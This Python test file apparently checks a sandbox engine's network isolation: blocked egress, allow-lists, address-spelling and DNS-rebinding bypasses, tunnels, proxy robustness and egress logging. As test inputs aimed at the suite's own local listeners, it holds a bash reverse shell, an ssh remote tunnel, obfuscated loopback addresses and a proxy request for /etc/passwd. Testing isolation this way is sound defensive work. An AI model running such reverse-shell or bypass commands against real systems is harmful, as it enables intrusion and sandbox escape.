"""THREATS 4.6: the network is off, or exactly as wide as it was named; every attempt is on record.

Listeners are this suite's own, on loopback addresses, or in a network namespace of their own. Each test first proves that the
host can reach the listener: only then does it mean something that the sandbox cannot.
"""

import contextlib
import os
import re
import resource
import shlex
import socket
import subprocess
import time

import pytest
from tests import agentwire as w
from tests import servers
from tests.enginehost import engine_host

import untax
from untax.channel import actions, wire
from untax.substrates._host import cell_path

# Addresses within namespaces of our own: public to every rule, and there nobody's but ours.
PUBLIC, GATEWAY = "11.22.33.44", "11.22.33.1"


@pytest.fixture
def peer():
    with servers.listener() as peer:
        assert peer.is_reachable_from_host()
        yield peer


def first_reply(result) -> str:
    return result.text.splitlines()[0] if result.text else ""


async def test_n1_without_network_nothing_outside_is_reached(box, peer):
    """At once: there is no route, so nothing waits for a time-out."""
    began = time.monotonic()
    result = await box.shell(
        f"curl -s -m 3 http://{peer.address}/; echo curl $?; (echo >/dev/tcp/{peer.host}/{peer.port}) 2>/dev/null; echo tcp $?"
    )

    assert "reached" not in result.text
    assert re.search(r"curl [1-9]", result.text)
    assert "tcp 1" in result.text
    assert time.monotonic() - began < 2
    assert peer.peers == []


async def test_n1_a_routable_address_is_unreachable_at_once(box):
    began = time.monotonic()
    result = await box.shell(f"(echo >/dev/tcp/{PUBLIC}/53) 2>&1; ip route 2>/dev/null; cat /proc/net/route | tail -n +2")

    assert "unreachable" in result.text
    assert time.monotonic() - began < 1
    assert len(result.text.splitlines()) <= 3


async def test_n2_the_metadata_address_is_unreachable(box):
    """The address itself is never aimed at: inside there is no route to anything, which is what is checked."""
    result = await box.shell("cat /proc/net/route | tail -n +2; cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '")

    assert result.text.split() == ["lo"]


async def test_n3_no_address_of_the_host_is_reached(box):
    """Whatever addresses the host has: the listener is on all of them."""
    with servers.listener(host="0.0.0.0") as everywhere:
        addresses = {ip[4][0] for ip in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)} | {servers.ALIAS}
        reachable = [a for a in addresses if servers.Listener(a, everywhere.port).is_reachable_from_host()]
        assert reachable
        tries = "; ".join(f"(echo >/dev/tcp/{a}/{everywhere.port}) 2>/dev/null && echo reached" for a in reachable)
        result = await box.shell(tries + "; true")

        assert result.stdout == b""


async def test_n4_names_do_not_resolve(box):
    began = time.monotonic()
    result = await box.shell(
        "getent hosts peer.test; echo $?; python3 -c \"import socket; socket.gethostbyname('peer.test')\" 2>&1 | tail -1", timeout_s=10
    )

    assert result.text.splitlines()[0] != "0"
    assert "gaierror" in result.text
    assert time.monotonic() - began < 2


async def test_n5_a_reverse_shell_fails(box, peer):
    result = await box.shell(f"bash -c 'bash -i >& /dev/tcp/{peer.host}/{peer.port} 0>&1'", timeout_s=5)

    assert result.exit_code != 0
    assert peer.peers == []


async def test_n6_raw_and_packet_sockets_are_refused(box):
    code = (
        "import socket\n"
        "for family, kind, protocol in ((2, 3, 1), (17, 3, 0), (17, 2, 0), (10, 3, 58), (40, 1, 0), (38, 5, 0), (31, 3, 1), (16, 3, 9), (29, 3, 1)):\n"
        "    try: socket.socket(family, kind, protocol); print('open', family, kind, protocol)\n"
        "    except OSError as e: pass\n"
    )
    result = await box.run(["python3", "-c", code])

    assert (result.exit_code, result.stdout) == (0, b"")


async def test_n7_with_a_list_neighbours_and_private_ranges_stay_closed(engine, peer):
    """The policy names one address; the loopback of the host, another sandbox, private and link-local ranges are not it."""
    async with engine.lease(network=("127.0.0.3:1",)) as box, engine.lease(network=("127.0.0.3:1",)) as other:
        server = await other.start(["python3", "-m", "http.server", "9998", "--bind", "0.0.0.0"])
        result = await box.shell(
            f"for u in {peer.address} 127.0.0.1:9998 127.0.0.1:{peer.port} 10.0.0.1:80 192.168.0.1:80 172.16.0.1:80 169.254.0.1:80 '[::1]:{peer.port}' '[fe80::1]:80' '[fd00::1]:80' 0.0.0.0:{peer.port}; do "
            "curl -g -s -m 3 --noproxy '' -o /dev/null -w '%{http_code} ' http://$u/; done"
        )
        await server.signal(9)

    assert set(result.text.split()) == {"403"}
    assert peer.peers == []


@pytest.mark.parametrize(
    "form", ["127.0.0.2", "2130706434", "0x7f000002", "017700000002", "[::ffff:127.0.0.2]", "127.2", "[::ffff:7f00:2]"]
)
async def test_n7_no_spelling_of_an_address_gets_around_the_rule(engine, peer, form):
    """Under `all`, loopback and private ranges of the host stay closed, however they are written."""
    async with engine.lease(network="all") as box:
        result = await box.shell(
            f"printf 'CONNECT {form}:{peer.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | (exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; timeout 3 head -1 <&3)"
        )

    assert " 200 " not in first_reply(result)
    assert first_reply(result).startswith("HTTP/1.")
    assert peer.peers == []


async def test_n8_what_is_named_works_and_nothing_else(engine, peer):
    """By address: the named port is open, another port of the same host is not; CONNECT is held to the same rule."""
    with servers.listener() as second:
        async with engine.lease(network=(peer.address,)) as box:
            result = await box.shell(
                f"curl -s -m 5 http://{peer.address}/; echo; curl -s -m 5 -o /dev/null -w '%{{http_code}}\\n' http://{second.address}/; "
                f"curl -s -m 5 -p -o /dev/null -w '%{{http_connect}}\\n' http://{second.address}/; curl -s -m 5 -p http://{peer.address}/"
            )
            records = [(r.host, r.port, r.verdict) for r in box.ledger.egress]

    assert result.text.split() == ["reached", "403", "403", "reached"]
    assert second.peers == []
    assert (peer.host, peer.port, "allowed") in records
    assert (second.host, second.port, "denied") in records


async def test_n8_a_redirect_is_a_request_of_its_own(engine):
    import http.server

    with servers.listener() as target:

        class Redirect(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(302)
                self.send_header("Location", f"http://{target.address}/")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        with servers.http_server(Redirect) as port:
            async with engine.lease(network=(f"{servers.ALIAS}:{port}",)) as box:
                result = await box.shell(f"curl -s -L -m 5 -o /dev/null -w '%{{http_code}}' http://{servers.ALIAS}:{port}/")

        assert result.text == "403"
        assert target.peers == []


SERVE = (
    "import socket\ns = socket.socket(); s.bind(('0.0.0.0', 8080)); s.listen(50)\n"
    "while True:\n c, _ = s.accept(); c.recv(4096); c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nreached'); c.close()\n"
)


@pytest.fixture
def own_network(tmp_path):
    """A command prefix: a network namespace of our own, joined by veth to a second one where a server has public addresses.

    The engine then runs in the first; nothing of it can reach the machine's real network.
    """
    if os.geteuid() != 0:
        pytest.skip("a network namespace of the test's own needs root")
    script = tmp_path / "netns.sh"
    script.write_text(
        f"""#!/bin/sh
set -e
ip link set lo up
unshare -n sleep 1000 <&- >/dev/null 2>&1 &
peer=$!
until [ "$(readlink /proc/$peer/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do sleep 0.01; done
ip link add v0 type veth peer name v1 netns $peer
ip addr add {GATEWAY}/24 dev v0
ip link set v0 up
nsenter -t $peer -n sh -c 'ip link set lo up; ip addr add {PUBLIC}/24 dev v1; ip addr add 10.1.2.3/24 dev v1; ip link set v1 up'
ip route add 10.1.2.0/24 dev v0
nsenter -t $peer -n /usr/bin/python3 -c {shlex.quote(SERVE)} <&- >/dev/null 2>&1 &
until curl -s -m 1 http://{PUBLIC}:8080/ >/dev/null && curl -s -m 1 http://10.1.2.3:8080/ >/dev/null; do sleep 0.02; done
exec "$@"
"""
    )
    probe = subprocess.run(["unshare", "-n", "ip", "link", "add", "v0", "type", "veth", "peer", "name", "v1"], capture_output=True)
    if probe.returncode:
        pytest.skip("this kernel has no veth")
    return ["unshare", "-n", "sh", str(script)]


async def answers(host, box: str, urls: list[str]) -> list[str]:
    loop = f"for u in {' '.join(urls)}; do curl -s -m 5 -w '\\n%{{http_code}}' $u | tail -1; echo; done"
    return (await host.run(box, ["sh", "-c", loop]))["stdout"].decode().split()


async def test_n8_allowed_names_work_and_what_they_resolve_to_is_checked(own_network, tmp_path):
    """A name that resolves to a public address works; on a private one, or under another name, it does not.

    The private address answers when it is asked from the host (the fixture waits for that), so its refusal is the rule's.
    """
    hosts = {"good.test": PUBLIC, "private.test": "10.1.2.3", "loop.test": "127.0.0.1", "own.test": GATEWAY, "other.test": PUBLIC}
    allowed = ["good.test:8080", "private.test:*", "loop.test:*", "own.test:*", "*.wild.test:*"]
    async with engine_host(tmp_path / "state", prefix=own_network, hosts=hosts) as host:
        await host.lease("a", {"network": allowed})
        names = ["good.test", "good.test.", "other.test", "private.test", "loop.test", "own.test", PUBLIC, "wild.test"]
        codes = await answers(host, "a", [f"http://{name}:8080/" for name in names])
        named = await answers(host, "a", ["http://good.test:8081/", "http://x.wild.test:8080/"])

    assert dict(zip(names, codes, strict=True)) == {"good.test": "200", "good.test.": "200"} | dict.fromkeys(names[2:], "403")
    assert named[0] == "403"
    assert named[1] in ("502", "504")  # allowed, and there is no such name


async def test_n8_under_all_public_addresses_are_open_and_private_ones_are_not(own_network, tmp_path):
    """Also not by a name, and not the host's own address, public as it may look."""
    async with engine_host(tmp_path / "state", prefix=own_network, hosts={"rebind.test": "10.1.2.3"}) as host:
        await host.lease("a", {"network": "all"})
        await host.lease("b", {"network": ["10.1.2.3:8080"]})
        codes = await answers(host, "a", [f"http://{h}:8080/" for h in (PUBLIC, "10.1.2.3", "rebind.test", GATEWAY)])
        by_name = await answers(host, "b", ["http://10.1.2.3:8080/"])

    assert codes == ["200", "403", "403", "403"]
    assert by_name == ["200"]


async def test_n9_a_tunnel_fails_and_is_on_record(engine, peer):
    async with engine.lease(network=("127.0.0.3:1",)) as box:
        result = await box.shell(
            f"ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 -R 8000:localhost:22 -p {peer.port} u@{peer.host}; echo $?;"
            f"printf 'CONNECT {peer.address} HTTP/1.1\\r\\n\\r\\n' | (exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; timeout 3 head -1 <&3)",
            timeout_s=10,
        )
        record = box.ledger.egress[-1]

    assert result.text.split()[0] != "0"
    assert "403" in result.text
    assert peer.peers == []
    assert (record.host, record.port, record.verdict) == (peer.host, peer.port, "denied")
    assert box.id in box.ledger.to_json()
    assert box.ledger.rollout in box.ledger.to_json()


async def test_n10_nothing_secret_is_in_the_proxy_variables(engine):
    async with engine.lease(network="all") as box:
        result = await box.shell("env | grep -i proxy | sort")

    values = {line.split("=", 1)[1] for line in result.text.splitlines()}
    assert values
    assert not [v for v in values if "@" in v]


async def test_n11_the_sandbox_s_own_loopback_works(box):
    server = await box.start(["python3", "-m", "http.server", "8000"])
    result = await box.shell(
        "for i in $(seq 300); do (echo >/dev/tcp/127.0.0.1/8000) 2>/dev/null && break; sleep 0.02; done; curl -s localhost:8000 | head -1",
        timeout_s=20,
    )
    await server.signal(9)

    assert "<!DOCTYPE" in result.text


async def test_n12_every_attempt_is_on_record_with_its_rollout(engine, peer, caplog):
    """In the ledger, and in the log with the ids of sandbox and rollout."""
    caplog.set_level("INFO", logger="untax")
    async with engine.lease(network=(peer.address,)) as box:
        await box.shell(f"for i in 1 2 3; do curl -s http://{peer.address}/; done; for i in 1 2; do curl -s http://10.0.0.1:81/; done")
        numbers = box.ledger.metrics()
        records = box.ledger.egress

    assert len(records) == 5
    assert (numbers["egress_allowed"], numbers["egress_refused"]) == (3, 2)
    assert all(r.at_ns > 0 for r in records)
    logged = [r.getMessage() for r in caplog.records if "egress" in r.getMessage()]
    assert len(logged) == 5
    assert all(box.ledger.rollout in line and box.id in line for line in logged)


async def test_a_hostile_request_to_the_proxy_hurts_nobody(engine):
    """Nonsense, an endless header, a forged host: refused, and the box goes on."""
    async with engine.lease(network="all") as box:
        code = (
            "import socket\n"
            "def ask(data):\n"
            "    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(5)\n"
            "    try:\n        s.sendall(data); s.shutdown(1)\n        return s.recv(100)\n"
            "    except OSError: return b''\n"
            "for data in (b'', b'\\0' * 100, b'GET / HTTP/1.1\\r\\n\\r\\n', b'CONNECT :0 HTTP/1.1\\r\\n\\r\\n', b'CONNECT a:99999 HTTP/1.1\\r\\n\\r\\n',\n"
            "             b'CONNECT ' + b'a' * 5000 + b':1 HTTP/1.1\\r\\n\\r\\n', b'GET http://a/ HTTP/1.1\\r\\nX: ' + b'y' * 300000,\n"
            "             b'CONNECT a\\r\\nEvil:1 HTTP/1.1\\r\\n\\r\\n', b'GET file:///etc/passwd HTTP/1.1\\r\\n\\r\\n', b'CONNECT a%00b:80 HTTP/1.1\\r\\n\\r\\n'):\n"
            "    print(ask(data)[9:12].decode('latin1') or '-')\n"
        )
        result = await box.run(["python3", "-c", code], timeout_s=60)
        assert result.exit_code == 0, result.stderr
        assert not [line for line in result.text.split() if line.startswith("2")]
        assert (await box.run(["true"])).exit_code == 0


async def test_the_proxy_is_only_there_when_the_network_is(box):
    result = await box.shell("(echo >/dev/tcp/127.0.0.1/3128) 2>/dev/null; echo $?")

    assert result.text == "1\n"


async def test_many_connections_at_once_go_through(engine, peer):
    async with engine.lease(network=(peer.address,)) as box:
        result = await box.shell(f"for i in $(seq 40); do curl -s -m 20 http://{peer.address}/ & done; wait", timeout_s=60)

    assert result.text == "reached" * 40


async def test_the_host_can_still_be_reached_afterwards(peer):
    """Nothing here touched the host's own network."""
    assert peer.is_reachable_from_host()
    assert subprocess.run(["ip", "-o", "link"], capture_output=True).returncode == 0


async def test_a_policy_may_be_bound_at_the_lease(engine, peer):
    spec = untax.EnvSpec(network=(peer.address,))
    async with engine.lease(spec, network="none") as box:
        result = await box.shell(f"curl -s -m 3 http://{peer.address}/; env | grep -ci proxy")

    assert result.text.strip() == "0"


def test_a_proxy_short_of_descriptors_waits_without_spinning(tmp_path):
    """What connects meanwhile stays in the queue, and is served when a descriptor is free."""
    if os.geteuid() != 0:
        pytest.skip("needs root: nobody else sees how many descriptors a cell has")
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    call = actions.configure(workdir=tmp_path, env={}, proxy_port=port)
    with w.Peer(cell_path(), tmp_path) as peer, contextlib.ExitStack() as stack:
        agent = peer.process.pid
        peer.next()
        peer.send(w.hello() + wire.frame(1, call.kind, call.payload))
        assert peer.until(1) == (w.DONE, b"")
        before = resource.prlimit(agent, resource.RLIMIT_NOFILE)
        resource.prlimit(agent, resource.RLIMIT_NOFILE, (len(os.listdir(f"/proc/{agent}/fd")) + 4, before[1]))
        clients = [stack.enter_context(socket.create_connection(("127.0.0.1", port))) for _ in range(30)]
        spent = -processor_s(agent)
        time.sleep(0.5)
        spent += processor_s(agent)
        resource.prlimit(agent, resource.RLIMIT_NOFILE, before)
        clients[-1].sendall(b"nonsense\r\n\r\n")
        clients[-1].settimeout(5)
        answer = clients[-1].recv(100)

    assert spent < 0.1
    assert answer.startswith(b"HTTP/1.1 400")


def processor_s(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
